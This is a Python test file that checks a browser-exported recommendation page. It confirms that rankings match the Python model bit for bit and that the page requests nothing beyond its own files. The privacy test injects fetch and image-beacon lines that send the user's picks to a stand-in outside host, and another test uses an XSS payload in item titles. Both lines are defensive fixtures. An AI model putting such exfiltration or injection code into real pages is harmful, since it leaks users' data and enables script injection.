"""The page in a real browser: it ranks as its Python twin does, to the last bit, and asks for nothing but its files."""

import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from fedgrec.config.configuration import Config
from fedgrec.data.item_names import names_of
from fedgrec.models.model import Model
from fedgrec.pages.export import Exported, ItemTable, write_page
from fedgrec.pages.export.table import agreement
from fedgrec.runs.simulation import Simulation
from tests.browser import Browser, Recorder, browsing, needs_browser
from tests.test_export import invented

OWN = {f"http://page.test/{name}" for name in ("index.html", "page.css", "page.js", "ranking.js", "items.js")}
RANKED = '[...document.querySelectorAll("#recommended > li")].map(row => [+row.dataset.item, +row.dataset.score])'
REASONS = """[...document.querySelectorAll("#recommended > li")].map((one) =>
  [...one.querySelectorAll(".because li")].map((line) =>
    [!!line.querySelector(".track"), line.firstElementChild.textContent,
      line.lastChild.textContent.replace("−", "-")]))"""


@pytest.fixture(scope="module")
def model() -> Model:
    """The demo, whose items have names and places."""
    return Simulation(Config().changed({"method": "spectral", "kernel": "reference"}, "test")).run()


@pytest.fixture(scope="module")
def page(model: Model, tmp_path_factory: pytest.TempPathFactory) -> Exported:
    return write_page(model, tmp_path_factory.mktemp("export") / "page")


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Browser, Recorder]]:
    with browsing(tmp_path_factory.mktemp("profile")) as both:
        yield both


@pytest.fixture
def browser(opened: tuple[Browser, Recorder]) -> Browser:
    return opened[0]


@pytest.fixture
def recorder(opened: tuple[Browser, Recorder]) -> Recorder:
    opened[1].asked.clear()
    return opened[1]


def shown(browser: Browser, page: Exported, picks: Any) -> list[list[float]]:
    """The 20 recommendations of the page on the disk for these items, with their scores."""
    browser.open(f"{page.path.as_uri()}#items={','.join(map(str, picks))}")
    browser.look('document.getElementById("more").click()')
    found: list[list[float]] = browser.look(RANKED)
    return found


def test_eight_bits_are_enough_for_the_demo(model: Model) -> None:
    assert agreement(model, ItemTable.of(model))[0] >= 19


@needs_browser
def test_the_page_ranks_as_its_twin_does(browser: Browser, model: Model, page: Exported) -> None:
    """Items and scores are equal, not close: for people of the demo, and for one with a single item."""
    table = ItemTable.of(model)
    for picks in ([40], [3, 17, 40], *(model.users.items_of(user) for user in (1, 7, 11))):
        items, scores = table.recommend(np.array(picks))
        assert shown(browser, page, picks) == [list(pair) for pair in zip(items.tolist(), scores.tolist(), strict=True)]


@needs_browser
@pytest.mark.parametrize(
    "options",
    [
        {},
        {"download": "float32", "message_passing": "mean"},
        {"method": "two-parts"},
        {"method": "ordered"},
        {"method": "ordered-parts"},
    ],
    ids=str,
)
def test_the_page_of_fedgrec_too(browser: Browser, options: dict[str, Any], tmp_path: Path) -> None:
    """Two tables, and other shares; items with equal scores are in the order of their numbers, as everywhere."""
    model = invented(**options)
    for table in (*model.server.items, *model.server.more.values()):
        if len(table) == len(model.item_ids):
            table[200:210] = table[100:110]
    model.server.degrees[200:210] = model.server.degrees[100:110]
    picks, ordered = [31, 8, 100], model.takes_order
    items, scores = ItemTable.of(model).recommend(np.array(picks if ordered else sorted(picks)))
    found = shown(browser, write_page(model, tmp_path / "page"), picks)
    assert found == [list(pair) for pair in zip(items.tolist(), scores.tolist(), strict=True)]
    last = "the last one counts most" in browser.look('document.getElementById("status").textContent')
    assert last == ordered


@needs_browser
def test_another_arithmetic_would_be_noticed(browser: Browser, model: Model, page: Exported, tmp_path: Path) -> None:
    """The mutation: terms in float32 (24 bits) give the same items but other scores."""
    changed = Path(shutil.copytree(page.path.parent, tmp_path / "page"))
    script = (changed / "ranking.js").read_text()
    (changed / "ranking.js").write_text(script.replace("found = new Float64Array", "found = new Float32Array"))
    items, scores = ItemTable.of(model).recommend(np.array([3, 17, 40]))
    found = shown(browser, replace(page, path=changed / "index.html"), [3, 17, 40])
    assert [row[0] for row in found] == items.tolist()
    assert [row[1] for row in found] != scores.tolist()


@needs_browser
def test_reasons_add_up_to_the_score(browser: Browser, model: Model, page: Exported) -> None:
    browser.open(f"{page.path.as_uri()}#items=3,17,40,131,9")
    names = names_of(model)
    titles, against = {names.title(item) for item in (3, 17, 40, 131, 9)}, 0
    for (item, score), lines in zip(browser.look(RANKED), browser.look(REASONS), strict=True):
        assert score == pytest.approx(sum(float(part) for *_, part in lines), abs=5e-4), names.title(item)
        for bar, words, part in lines:
            assert bar == (words in titles)
            assert (float(part) > 0) == (bar or words.startswith("and ")), "only what speaks for the item is a reason"
            against += "against it" in words
    assert against


@needs_browser
def test_only_the_pages_own_files_are_asked_for(browser: Browser, recorder: Recorder, page: Exported) -> None:
    """By keyboard alone: search, pick, remove; none of it is a request."""
    recorder.folder = page.path.parent
    browser.open("http://page.test/index.html")
    assert set(recorder.asked) == OWN
    recorder.asked.clear()
    browser.look('document.getElementById("search").focus()')
    browser.type("harbour caf")
    assert "Harbour Café" in browser.look('document.querySelector("[aria-selected=true]").textContent')
    browser.press("ArrowDown")
    browser.press("Enter")
    assert browser.look('document.querySelectorAll("#picked button").length') == 1
    assert len(browser.look(RANKED)) == 10
    browser.look('document.querySelector("#recommended button").click()')
    assert "from your 2 picks" in browser.look('document.getElementById("status").textContent')
    browser.look('document.querySelector("#picked button").click()')
    assert browser.look('document.querySelectorAll("#picked button").length') == 1
    for width in (390, 1280):
        browser.call("Emulation.setDeviceMetricsOverride", width=width, height=800, deviceScaleFactor=1, mobile=False)
        assert browser.look("document.documentElement.scrollWidth <= innerWidth"), "nothing is wider than the screen"
    assert recorder.asked == []


LEAKS = {
    "fetch": 'fetch("http://elsewhere.test/seen?" + picks).catch(() => 0);',
    "image": 'new Image().src = "http://elsewhere.test/seen?" + picks;',
}


@needs_browser
@pytest.mark.parametrize("leak", LEAKS)
def test_a_page_that_tells_would_be_noticed(
    leak: str, browser: Browser, recorder: Recorder, page: Exported, tmp_path: Path
) -> None:
    """The mutation: the recorder sees the request of a page that leaks, and the page's policy stops it."""
    recorder.folder = Path(shutil.copytree(page.path.parent, tmp_path / "page"))
    script, index = recorder.folder / "page.js", recorder.folder / "index.html"
    script.write_text(script.read_text().replace("function show() {", f"function show() {{ {LEAKS[leak]}"))
    browser.open("http://page.test/index.html#items=3,17")
    browser.look("new Promise(done => setTimeout(done, 100))")
    assert set(recorder.asked) == OWN
    index.write_text(index.read_text().replace("Content-Security-Policy", "no-policy"))
    browser.open("http://page.test/index.html?#items=3,17")
    browser.look("new Promise(done => setTimeout(done, 100))")
    assert "http://elsewhere.test/seen?3,17" in recorder.asked


@needs_browser
def test_titles_are_text_and_never_markup(browser: Browser, tmp_path: Path) -> None:
    titles = tmp_path / "titles.csv"
    titles.write_text('item,title,x,y\n0,"<img src=x onerror=""document.title=1"">",1,1\n1,"</script>",2,5\n2,,,\n')
    exported = write_page(invented(60, 12), tmp_path / "page", titles)
    browser.open(f"{exported.path.as_uri()}#items=0,1")
    assert browser.look('document.getElementById("picked").innerText').startswith("<img src=x")
    assert browser.look("document.title") == "Recommendations: clicks"
    assert browser.look('!document.getElementById("map").hidden')
